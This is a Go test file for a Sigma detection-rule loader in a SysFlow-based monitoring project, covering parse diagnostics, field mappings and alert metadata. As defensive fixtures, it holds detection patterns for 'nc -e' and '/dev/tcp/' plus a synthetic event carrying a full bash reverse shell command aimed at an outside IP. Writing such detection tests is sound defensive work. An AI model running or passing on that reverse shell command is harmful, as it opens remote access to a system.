package policies_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/sfconnector/sfconnector/policies"
	"github.com/sfconnector/sfconnector/sysflow"
)

const sigmaHead = "title: T\nid: 1\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n"

// TestSigmaDiagnostics checks that each unsupported construct skips its
// rule with a warning naming the line, column and construct (an error in
// strict mode), and that malformed rules are errors with positions.
func TestSigmaDiagnostics(t *testing.T) {
	cases := []struct {
		name, text string
		severity   policies.Severity
		line, col  int
		msg        string
	}{
		{"keywords", sigmaHead + "    keywords:\n        - 'nc -e'\n    condition: keywords\n", policies.SeverityWarning, 8, 11, "keyword search"},
		{"wide", sigmaHead + "    sel:\n        CommandLine|wide|base64: x\n    condition: sel\n", policies.SeverityWarning, 8, 9, "modifier wide is not supported"},
		{"unknown modifier", sigmaHead + "    sel:\n        CommandLine|sounds_like: x\n    condition: sel\n", policies.SeverityWarning, 8, 9, `unknown modifier "sounds_like"`},
		{"aggregation", sigmaHead + "    sel:\n        Image: x\n    condition: sel | count() by User > 5\n", policies.SeverityWarning, 9, 20, "aggregation"},
		{"timeframe", sigmaHead + "    sel:\n        Image: x\n    timeframe: 5m\n    condition: sel\n", policies.SeverityWarning, 9, 5, "timeframe"},
		{"windows", "title: T\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n    sel:\n        Image: x\n    condition: sel\n", policies.SeverityWarning, 3, 14, `product "windows"`},
		{"category", "title: T\nlogsource:\n    product: linux\n    category: dns_query\ndetection:\n    sel:\n        QueryName: x\n    condition: sel\n", policies.SeverityWarning, 4, 15, `category "dns_query" has no SysFlow record type`},
		{"service", "title: T\nlogsource:\n    product: linux\n    service: auditd\ndetection:\n    sel:\n        type: EXECVE\n    condition: sel\n", policies.SeverityWarning, 4, 14, "without a category"},
		{"unmapped field", sigmaHead + "    sel:\n        LogonId: 0\n    condition: sel\n", policies.SeverityWarning, 8, 9, "field LogonId is not in the field mapping"},
		{"lookaround", sigmaHead + "    sel:\n        CommandLine|re: 'a(?!b)'\n    condition: sel\n", policies.SeverityWarning, 8, 25, "RE2"},
		{"quantifier", sigmaHead + "    sel:\n        Image: x\n    condition: 2 of sel*\n", policies.SeverityWarning, 9, 16, `quantifier "2"`},
		{"undefined identifier", sigmaHead + "    selection:\n        Image: x\n    condition: selection and not filtr\n", policies.SeverityError, 9, 34, "does not define"},
		{"syntax", sigmaHead + "    sel:\n        Image: x\n    condition: (sel and\n", policies.SeverityError, 9, 24, "condition ends"},
		{"no condition", sigmaHead + "    sel:\n        Image: x\n", policies.SeverityError, 7, 5, "no condition"},
		{"no match", sigmaHead + "    sel:\n        Image: x\n    condition: 1 of filter*\n", policies.SeverityError, 9, 16, "no search identifier matches filter*"},
		{"bad cidr", "title: T\nlogsource:\n    category: network_connection\ndetection:\n    sel:\n        DestinationIp|cidr: 10.0.0/33\n    condition: sel\n", policies.SeverityError, 6, 29, "cidr"},
		{"gt text", sigmaHead + "    sel:\n        ProcessId|gt: many\n    condition: sel\n", policies.SeverityError, 8, 23, "compares numbers"},
		{"exists text", sigmaHead + "    sel:\n        Image|exists: maybe\n    condition: sel\n", policies.SeverityError, 8, 23, "exists takes true or false"},
		{"two positions", sigmaHead + "    sel:\n        Image|contains|endswith: x\n    condition: sel\n", policies.SeverityError, 8, 9, "cannot be combined"},
		{"no title", "logsource:\n    category: process_creation\ndetection:\n    sel:\n        Image: x\n    condition: sel\n", policies.SeverityError, 1, 1, "needs a title"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			for _, strict := range []bool{false, true} {
				fsys := fstest.MapFS{"r.yml": {Data: []byte(c.text)}}
				set, diags, err := policies.LoadFS(fsys, []string{"r.yml"}, policies.Options{Strict: strict})
				var found *policies.Diagnostic
				for i, d := range diags {
					if strings.Contains(d.Msg, c.msg) {
						found = &diags[i]
					}
				}
				if found == nil {
					t.Fatalf("strict %v: no diagnostic containing %q in %v", strict, c.msg, diags)
				}
				if found.Pos.Line != c.line || found.Pos.Col != c.col {
					t.Errorf("strict %v: %s: at %d:%d, expected %d:%d", strict, found, found.Pos.Line, found.Pos.Col, c.line, c.col)
				}
				if c.severity == policies.SeverityWarning {
					verdict := map[bool]string{false: "rule skipped: ", true: "rule refused (strict mode): "}[strict]
					if !strings.HasPrefix(found.Msg, verdict) {
						t.Errorf("strict %v: %q does not start with %q", strict, found.Msg, verdict)
					}
				}
				if found.Source == "" {
					t.Errorf("%s: no source line", found)
				}
				wantErr := strict || c.severity == policies.SeverityError
				if (err != nil) != wantErr || (found.Severity == policies.SeverityError) != wantErr {
					t.Fatalf("strict %v: %s, load error %v; expected an error: %v", strict, found, err, wantErr)
				}
				if !wantErr && len(set.Rules()) != 0 {
					t.Fatalf("the rule was loaded despite %s", found)
				}
			}
		})
	}
}

// TestSigmaBuiltInLogSource: with the built-in mapping, a rule naming the
// service sysflow loads, and one naming another service is skipped.
func TestSigmaBuiltInLogSource(t *testing.T) {
	for service, loads := range map[string]bool{"sysflow": true, "auditd": false} {
		text := "title: T\nlogsource:\n    product: linux\n    service: " + service + "\n    category: process_creation\ndetection:\n    sel:\n        Image: /bin/sh\n    condition: sel\n"
		set, diags, err := policies.LoadFS(fstest.MapFS{"r.yml": {Data: []byte(text)}}, []string{"r.yml"}, policies.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if got := len(set.Rules()) == 1; got != loads {
			t.Errorf("service %s: loaded %v, expected %v (%v)", service, got, loads, diags)
		}
	}
}

// TestSigmaMappingOneToMany maps one Sigma field to two SysFlow fields and
// adds a log source condition: each value holds when it holds on either
// field, and the condition applies to every rule of the source.
func TestSigmaMappingOneToMany(t *testing.T) {
	dir := t.TempDir()
	mapping := filepath.Join(dir, "map.yml")
	rules := filepath.Join(dir, "rules")
	if err := os.Mkdir(rules, 0o755); err != nil {
		t.Fatal(err)
	}
	write := func(p, s string) {
		if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(mapping, "title: m\nlogsources:\n  procs:\n    product: linux\n    category: process_creation\n    conditions:\n      sf.proc.tty: 'false'\nfieldmappings:\n  AnyImage:\n    - sf.proc.exe\n    - sf.pproc.exe\n  Image: sf.proc.exe\n")
	write(filepath.Join(rules, "any.yml"), sigmaHead+"    sel:\n        AnyImage|endswith: '/bash'\n    condition: sel\n")
	write(filepath.Join(rules, "all.yml"), strings.Replace(sigmaHead, "T", "U", 1)+"    sel:\n        AnyImage|contains|all: ['python', 'java']\n    condition: sel\n")
	set, diags, err := policies.Load([]string{rules}, policies.Options{SigmaConfig: mapping, Strict: true})
	if err != nil || len(diags) > 0 {
		t.Fatalf("%v %v", err, diags)
	}
	want := map[string]func(sev) bool{
		"T": func(s sev) bool {
			return strings.HasSuffix(s.lexe(), "/bash") || strings.HasSuffix(strings.ToLower(s.pexe), "/bash")
		},
		"U": func(s sev) bool {
			has := func(x string) bool {
				return strings.Contains(s.lexe(), x) || strings.Contains(strings.ToLower(s.pexe), x)
			}
			return has("python") && has("java")
		},
	}
	evs := syntheticSev(t)
	for _, evsOf := range allTraceEvents(t) {
		for _, ev := range evsOf {
			evs = append(evs, readSev(ev))
		}
	}
	hits := map[string]int{}
	for _, s := range evs {
		got := map[string]bool{}
		for _, m := range set.Match(s.ev, nil) {
			got[m.Rule] = true
		}
		for name, f := range want {
			w := s.exec && (s.ev.Proc == nil || !s.ev.Proc.TTY) && f(s)
			if got[name] != w {
				t.Fatalf("rule %s on exe %q parent %q: matched %v, expected %v", name, s.exe, s.pexe, got[name], w)
			}
			if w {
				hits[name]++
			}
		}
	}
	if hits["T"] == 0 || hits["U"] == 0 {
		t.Fatalf("matches %v: the events do not exercise both rules", hits)
	}
}

// TestSigmaAlert checks what a Sigma rule puts in its alerts: the title as
// the rule, the level as the priority, the tags with id and status, and
// the metadata.
func TestSigmaAlert(t *testing.T) {
	text := "title: Reverse shell\nid: 4a2f\nstatus: experimental\ndescription: bash on a socket\nlevel: critical\nauthor: me\n" +
		"references:\n    - https://example.org/a\nfalsepositives:\n    - admins\ntags:\n    - attack.execution\n    - attack.t1059\n" +
		"logsource:\n    product: linux\n    category: process_creation\ndetection:\n    sel:\n        CommandLine|contains: '/dev/tcp/'\n    condition: sel\n"
	set, _, err := policies.LoadFS(fstest.MapFS{"r.yml": {Data: []byte(text)}}, []string{"r.yml"}, policies.Options{Strict: true})
	if err != nil {
		t.Fatal(err)
	}
	ev := &sysflow.Event{Kind: sysflow.KindProcessEvent, OpFlags: sysflow.OpExec, Proc: &sysflow.Process{Exe: "/bin/bash", ExeArgs: "-i >& /dev/tcp/1.2.3.4/9 0>&1"}}
	ms := set.Match(ev, nil)
	if len(ms) != 1 {
		t.Fatalf("matches %v", ms)
	}
	m := ms[0]
	if m.Rule != "Reverse shell" || m.Desc != "bash on a socket" || m.Priority != sysflow.PriorityHigh {
		t.Fatalf("alert %+v", m)
	}
	for _, tag := range []string{"attack.execution", "attack.t1059", "sigma", "sigma.id:4a2f", "sigma.status:experimental"} {
		if !strings.Contains(" "+strings.Join(m.Tags, " ")+" ", " "+tag+" ") {
			t.Errorf("tag %s missing from %v", tag, m.Tags)
		}
	}
	info := set.Rules()[0].Sigma
	if info == nil || info.ID != "4a2f" || info.Level != "critical" || info.Author != "me" ||
		strings.Join(info.References, ",") != "https://example.org/a" || strings.Join(info.FalsePositives, ",") != "admins" {
		t.Fatalf("metadata %+v", info)
	}
	meta := map[string]string{}
	for _, f := range m.Meta {
		meta[f.Key] = strings.Join(f.Values, ",")
	}
	if meta["sigma.id"] != "4a2f" || meta["sigma.status"] != "experimental" || meta["sigma.level"] != "critical" ||
		meta["sigma.references"] != "https://example.org/a" || meta["sigma.falsepositives"] != "admins" {
		t.Fatalf("alert metadata %v", m.Meta)
	}
	if ms := set.Match(&sysflow.Event{Kind: sysflow.KindProcessEvent, OpFlags: sysflow.OpClone, Proc: ev.Proc}, nil); len(ms) != 0 {
		t.Fatalf("a clone matched a process_creation rule: %v", ms)
	}
}
